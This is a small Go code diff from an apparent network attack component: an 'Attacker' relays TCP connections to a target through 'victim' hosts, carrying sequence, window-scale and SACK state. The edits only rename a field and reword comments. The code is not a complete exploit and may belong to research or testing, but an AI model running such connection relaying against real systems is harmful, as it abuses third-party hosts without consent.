@@ -25,11 +25,11 @@ type relays struct {
 	streams, asked atomic.Uint64
 }
 
-// position is what both ends of a connection said last, in the numbers of the wire.
+// position holds the latest numbers of a connection's two ends, as they are on the wire.
 type position struct {
-	seq, ack, edge     uint32
-	nearScale, farSize uint8
-	sack               bool
+	seq, ack, edge      uint32
+	nearScale, farScale uint8
+	sack                bool
 }
 
 func newRelays(a *Attacker) *relays {
@@ -76,15 +76,15 @@ func (r *relays) received(p *wire.Packet) {
 	r.mu.Lock()
 	defer r.mu.Unlock()
 	c := r.at(p.DstPort)
-	c.farSize, _ = p.WindowScale()
+	c.farScale, _ = p.WindowScale()
 	c.sack = c.sack && p.SACKPermitted()
 }
 
 // relayEvery spaces the connections to the target.
 const relayEvery = 200 * time.Millisecond
 
-// run opens connections to the target, asks each victim to relay them, and lets them go, until
-// ctx ends.
+// run opens connections to the target, asks each victim to relay them, and closes them, until ctx
+// ends.
 func (r *relays) run(ctx context.Context) error {
 	rnd := rand.New(rand.NewPCG(r.a.cfg.Seed, 1))
 	t := time.NewTicker(relayEvery)
@@ -111,7 +111,7 @@ func (r *relays) once(ctx context.Context, rnd *rand.Rand) {
 		return
 	}
 	_ = c.SetReadDeadline(time.Now().Add(time.Second))
-	_, _ = io.ReadFull(c, make([]byte, 1)) // whether it answers is the target's business
+	_, _ = io.ReadFull(c, make([]byte, 1)) // the target need not answer
 	local := c.LocalAddr().(*net.TCPAddr).AddrPort()
 	r.mu.Lock()
 	pos := r.conns[local.Port()]
@@ -124,7 +124,7 @@ func (r *relays) once(ctx context.Context, rnd *rand.Rand) {
 	r.mu.Unlock()
 	first := &wire.Frame{
 		Kind: wire.FrameOpen, Seq: p.seq, Ack: p.ack, Edge: p.edge,
-		Payload: opening(local, r.a.cfg.Target, p.nearScale, p.farSize, p.sack),
+		Payload: opening(local, r.a.cfg.Target, p.nearScale, p.farScale, p.sack),
 	}
 	if rnd.IntN(4) == 0 { // about a connection of others
 		others := r.a.cfg.Strangers
